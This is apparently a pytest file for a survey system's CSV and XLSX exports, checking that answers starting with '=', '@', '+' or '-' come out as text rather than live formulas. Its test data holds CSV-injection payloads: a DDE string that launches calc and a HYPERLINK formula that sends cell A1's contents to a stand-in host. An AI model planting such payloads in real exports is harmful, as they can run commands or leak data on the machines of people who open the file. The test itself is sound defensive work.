"""Untrusted text in the data exports: open answers that a spreadsheet would run as formulas, given on the web
form by a public respondent and keyed by an interviewer in the CATI console, come back from the CSV and XLSX
exports as text (OWASP CSV injection: a leading quote in CSV, a string cell in XLSX), never as formulas."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from cati.db import transaction
from cati.models import Study
from cati.services.frames import responses_frame
from cati.services.studies import install_study
from reports.exports import export_responses
from scoring.cells import FORMULA_STARTS
from tests import factories

from .conftest import Console
from .test_cawi import FORM, HAPPY, Respondent
from .test_interviewer import ans, answered_call, script_all, start

EVIL = ["=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]


def read_back(paths: dict, column: str) -> tuple[list[str], list]:
    """The column's cells from the CSV (as text) and the XLSX (openpyxl cells)."""
    with open(paths["csv"], encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    col = rows[0].index(column)
    ws = load_workbook(paths["xlsx"]).worksheets[0]
    head = [c.value for c in ws[1]]
    xcol = head.index(column) + 1
    return [r[col] for r in rows[1:]], [ws.cell(i, xcol) for i in range(2, ws.max_row + 1)]


def no_formula_anywhere(path: Path) -> None:
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_web_answers_export_as_text(app, session_factory, tmp_path):
    with transaction(session_factory) as s:
        study = install_study(s, HAPPY)
        ent = factories.enterprise(s, study, name="=呼叫中心")
        from cati.services import cawi

        token = cawi.open_invitation(s, study, ent, user_id=None, now=factories.MONDAY_10AM).token
    sent = []
    for i, text in enumerate(EVIL):
        plan = {**FORM, "O1": {"value": text}, "M1": {"value": ["97"], "other": f"{EVIL[-1 - i]}x"}}
        phone = Respondent(app, token)
        assert phone.start().status_code == 303
        phone.answer_all(plan)
        sent.append(text)
    with session_factory() as s:
        st = s.query(Study).filter_by(code="happiness_index").one()
        frame = responses_frame(s, st.id)
        paths = export_responses(frame, st.definition, tmp_path, formats=("csv", "xlsx"))
    texts, cells = read_back(paths, "O1")
    stored = [t.strip() for t in sent]  # the engine strips an open answer's surrounding white space
    assert texts == [("'" + t) if t.startswith(FORMULA_STARTS) else t for t in stored]
    assert texts[:4] == ["'=1+2", "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'-2+3"]
    assert [(c.data_type, c.value) for c in cells] == [("s", t) for t in stored]
    others, ocells = read_back(paths, "M1_other")
    assert sum(o.startswith("'") for o in others) == 4 and all(c.data_type == "s" for c in ocells)
    assert set(read_back(paths, "mode")[0]) == {"cawi"}  # every row says how it was answered
    names, ncells = read_back(paths, "enterprise_name")
    assert set(names) == {"'=呼叫中心"} and {c.value for c in ncells} == {"=呼叫中心"}
    no_formula_anywhere(paths["xlsx"])


def test_cati_keyed_answers_export_as_text(client, world, backend, session_factory, tmp_path):
    script_all(backend, world)
    c = Console(client, "ann")
    case_id, _call = answered_call(c, session_factory)
    iid = start(c, session_factory, case_id)
    ans(c, iid, "INTRO")
    for code, v in zip(["CONSENT", "S1", "S2", "A1", "A2", "A3", "A4", "B1", "B2", "B3", "B4", "C1", "C2", "C3",
                        "C4", "D0"], "1115432158943211", strict=True):
        assert ans(c, iid, code, v).status_code == 200
    for code, v in [("D1", "3"), ("D2", "4"), ("D3", "5"), ("E1", "5"), ("E2", "5"), ("E3", "5"), ("F1", "4"),
                    ("F2", "4"), ("F3", "4"), ("F4", "4"), ("Q0", "4"), ("CB1", "2"),
                    ("OPEN1", '=HYPERLINK("http://x.example/?"&A1,"点这里")'), ("P1", "2"), ("P2", "3"), ("P3", "1")]:
        assert ans(c, iid, code, v).status_code == 200, code
    assert ans(c, iid, "END").get_json()["done"] == "complete"
    with session_factory() as s:
        st = s.get(Study, world["study_id"])
        paths = export_responses(responses_frame(s, st.id), st.definition, tmp_path, formats=("csv", "xlsx"))
    assert read_back(paths, "mode")[0] == ["cati"]
    texts, cells = read_back(paths, "OPEN1")
    assert texts == ['\'=HYPERLINK("http://x.example/?"&A1,"点这里")']
    assert [(x.data_type, x.value) for x in cells] == [("s", '=HYPERLINK("http://x.example/?"&A1,"点这里")')]
    no_formula_anywhere(paths["xlsx"])
